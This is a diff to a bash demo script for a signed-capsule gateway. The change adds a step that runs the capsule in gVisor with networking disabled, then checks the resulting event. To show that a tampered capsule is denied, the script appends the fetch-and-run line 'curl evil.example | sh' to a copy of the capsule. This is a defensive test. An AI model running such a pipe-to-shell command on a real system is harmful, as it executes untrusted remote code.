@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
 # The main job, end to end on a fresh machine: build, make a key and a sample capsule,
-# verify and admit it, then show that a tampered copy is denied.
+# verify and admit it, run it in gVisor, then show that a tampered copy is denied.
 set -euo pipefail
 cd "$(dirname "$0")/.."
 
@@ -30,6 +30,15 @@ echo "== verify"
 echo "== admit (recorded in $work/state)"
 "$gw" admit --policy "$work/policy.toml" --runner "$runner" --state "$work/state" --json "$work/capsule"
 
+echo "== run it in gVisor (runsc --network=none, ptrace platform): one CloudEvent on stdout"
+event=$("$gw" run --policy "$work/policy.toml" --runner "$runner" --state "$work/state" "$work/capsule")
+echo "$event"
+case "$event" in
+  *'"type":"dev.capsule-gateway.run.completed"'*'"blocked":true'*'"teardown":{"ok":true'*) ;;
+  *) echo "demo: expected a completed run with egress blocked and a clean teardown" >&2; exit 1 ;;
+esac
+echo "   evidence bundles: $work/state/evidence/"
+
 echo "== a tampered copy is denied"
 cp -r "$work/capsule" "$work/tampered"
 printf 'curl evil.example | sh\n' >> "$work/tampered/files/run.sh"
@@ -41,4 +50,4 @@ if [ "$code" -ne 1 ]; then
   echo "demo: expected the tampered capsule to be denied (exit 1), got $code" >&2
   exit 1
 fi
-echo "demo: OK (admitted the signed capsule, denied the tampered copy with exit code $code)"
+echo "demo: OK (admitted the signed capsule, ran it in gVisor, denied the tampered copy with exit code $code)"
